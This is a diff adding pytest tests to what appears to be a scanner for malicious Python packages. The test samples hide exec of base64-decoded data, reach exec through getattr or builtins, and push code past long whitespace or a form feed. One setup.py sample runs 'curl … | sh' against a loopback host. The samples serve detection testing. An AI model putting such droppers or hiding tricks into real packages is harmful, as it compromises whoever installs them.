@@ -100,3 +100,45 @@ def test_unparseable_python2_file_still_matched(tmp_path: Path) -> None:
 def test_several_tricks_in_one_file_combine(tmp_path: Path) -> None:
     code = "run = eval\nf = getattr(__builtins__, 'ex' + 'ec')\n"
     assert severity(scan_wheel(tmp_path, {"demo/mod.py": code}), "combined-obfuscated") is Severity.HIGH
+
+
+PAYLOAD = "aW1wb3J0IG9z"  # base64 of "import os": harmless, and never run: the scanner only reads it
+
+
+def test_a_long_chain_of_variables_is_followed_without_exhausting_the_stack(tmp_path: Path) -> None:
+    chain = "".join(f"a{i} = a{i - 1}\n" for i in range(1, 1500))
+    code = f"import base64\na0 = base64.b64decode('{PAYLOAD}')\n{chain}exec(a1499)\n"
+    assert severity(scan_wheel(tmp_path, {"demo/mod.py": code}), "obfuscation-exec-decoded") is Severity.HIGH
+
+
+def test_a_tangle_of_variables_costs_bounded_time_and_is_reported(tmp_path: Path) -> None:
+    """Thousands of variables fed to thousands of exec calls: every question shares one budget per file."""
+    names = [f"b{i}" for i in range(3000)]
+    code = "".join(f"{n} = ''\n" for n in names) + f"x = str([{', '.join(names)}])\n" + "exec(x)\n" * 3000
+    scan = scan_wheel(tmp_path, {"demo/mod.py": code})
+    assert severity(scan, "obfuscation-tangled-flow") is Severity.MEDIUM
+
+
+def test_blanks_inside_a_comment_hide_nothing_but_blanks_before_code_do(tmp_path: Path) -> None:
+    table = "CODES = {\n    0x00: 'NUL',  #" + " " * 130 + "|\n}\n"
+    assert severity(scan_wheel(tmp_path / "ok", {"demo/codes.py": table}), "obfuscation-hidden-by-whitespace") is None
+    hidden = "x = '#'" + " " * 130 + ";import os\n"
+    assert severity(scan_wheel(tmp_path / "bad", {"demo/m.py": hidden}), "obfuscation-hidden-by-whitespace") is not None
+
+
+def test_a_form_feed_does_not_end_a_line_as_far_as_hiding_goes(tmp_path: Path) -> None:
+    code = "x = 1" + " " * 200 + "\x0c;import os\n"
+    assert severity(scan_wheel(tmp_path, {"demo/m.py": code}), "obfuscation-hidden-by-whitespace") is not None
+
+
+@pytest.mark.parametrize("call", [
+    "getattr(builtins, 'exec')", "builtins.__dict__['exec']", "__builtins__.exec",
+])
+def test_exec_reached_without_writing_its_name_is_still_exec(tmp_path: Path, call: str) -> None:
+    code = f"import base64, builtins\n{call}(base64.b64decode('{PAYLOAD}'))\n"
+    assert severity(scan_wheel(tmp_path, {"demo/mod.py": code}), "obfuscation-exec-decoded") is Severity.HIGH
+
+
+def test_getattr_with_a_written_name_is_the_call_it_names(tmp_path: Path) -> None:
+    code = "import os\ngetattr(os, 'system')('curl -s http://127.0.0.1:9/x | sh')\n"
+    assert severity(scan_sdist(tmp_path, {"setup.py": code}), "shell-dropper-command") is Severity.CRITICAL
